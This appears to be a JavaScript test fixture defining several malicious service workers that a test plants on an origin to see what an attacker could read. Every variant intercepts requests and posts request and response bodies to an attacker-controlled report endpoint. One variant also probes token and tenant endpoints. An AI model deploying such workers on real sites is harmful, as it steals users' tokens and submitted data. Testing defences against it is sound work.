// Service workers that another program has left on the origin. The test puts a NAME and the address
// of the attacker's SITE in front. Each reports what it can read there.
"use strict";

const report = (what, text) =>
  fetch(`${SITE}/report`, { method: "POST", mode: "no-cors", body: `${what}: ${text}` }).catch(() => undefined);

async function reported(request, response) {
  await report(`${response.status} ${request.method} ${new URL(request.url).pathname}`, await response.clone().text());
  return response;
}

async function greedy() {
  for (const path of ["/token", "/token?min_ttl=999999", "/tenants", "/status", "/home"]) {
    for (const accept of ["*/*", "text/plain", "text/html"]) {
      const request = new Request(path, { headers: { Accept: accept } });
      await fetch(request).then((response) => reported(request, response)).catch(() => undefined);
    }
  }
}

// The same request without the mode "navigate", which a script cannot set.
async function rebuilt(request, credentials) {
  const body = request.method === "POST" ? await request.text() : undefined;
  const { method, headers } = request;
  return fetch(request.url, { method, headers, body, credentials, mode: "same-origin", redirect: "follow" });
}

const WAYS = {
  passing: (event) => fetch(event.request),
  greedy: async (event) => { await greedy(); return fetch(event.request); },
  rebuilding: (event) => rebuilt(event.request, "include"),
  // Chromium ignores Clear-Site-Data on responses to these requests.
  omitting: (event) => rebuilt(event.request, "omit"),
  lurking: (event) => (event.request.method === "POST" ? fetch(event.request) : undefined),
  preloading: async (event) => (await event.preloadResponse) ?? fetch(event.request),
  // The browser sends the request as without a worker, and gives the worker the response.
  racing: (event) => fetch(event.request),
};

addEventListener("install", (event) => {
  skipWaiting();
  if (NAME === "racing") {
    event.addRoutes({ condition: { urlPattern: new URLPattern({ pathname: "/*" }) }, source: "race-network-and-fetch-handler" });
  }
});

addEventListener("activate", (event) => {
  const preload = NAME === "preloading" ? registration.navigationPreload.enable() : undefined;
  event.waitUntil(Promise.resolve(preload).then(() => clients.claim()));
});

addEventListener("fetch", (event) => {
  if (NAME === "lurking" && event.request.method !== "POST") return;
  event.respondWith((async () => {
    const { method, url } = event.request;
    const sent = method === "POST" ? await event.request.clone().text() : "";
    await report(`sees ${method} ${new URL(url).pathname}`, sent);
    return reported({ method, url }, await WAYS[NAME](event));
  })());
});
